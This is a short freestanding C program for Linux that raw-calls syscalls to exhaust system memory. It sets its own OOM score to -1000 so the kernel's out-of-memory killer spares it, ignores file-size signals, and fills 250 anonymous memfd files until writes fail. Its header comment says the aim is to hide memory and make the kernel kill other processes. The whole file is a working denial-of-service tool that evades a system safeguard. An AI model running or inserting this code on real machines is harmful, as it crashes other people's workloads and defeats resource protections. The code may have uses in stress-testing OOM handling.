/*
 * Hides memory in files without a name, after it has asked the kernel to kill anybody else for it; and it is smaller
 * than anybody else, since it has no library. Built with -static -nostdlib.
 */
#include <fcntl.h>
#include <signal.h>
#include <sys/syscall.h>

static long call(long number, long a, long b, long c, long d)
{
	register long fourth __asm__("r10") = d;
	long result;
	__asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(fourth) : "rcx", "r11", "memory");
	return result;
}

static const char block[65536] = {0}; /* never written, so no memory */

void _start(void)
{
	struct {
		void *handler;
		unsigned long flags;
		void *restorer;
		unsigned long mask;
	} ignored = {(void *)1, 0, 0, 0};
	int blame = (int)call(SYS_open, (long)"/proc/self/oom_score_adj", O_WRONLY, 0, 0);
	call(SYS_write, blame, (long)"-1000", 5, 0);
	call(SYS_write, blame, (long)"0", 1, 0);
	call(SYS_rt_sigaction, SIGXFSZ, (long)&ignored, 0, 8);
	for (int i = 0; i < 250; i++) {
		int fd = (int)call(SYS_memfd_create, (long)"hidden", 0, 0, 0);
		while (call(SYS_write, fd, (long)block, sizeof block, 0) > 0)
			;
	}
	call(SYS_exit_group, 0, 0, 0, 0);
}
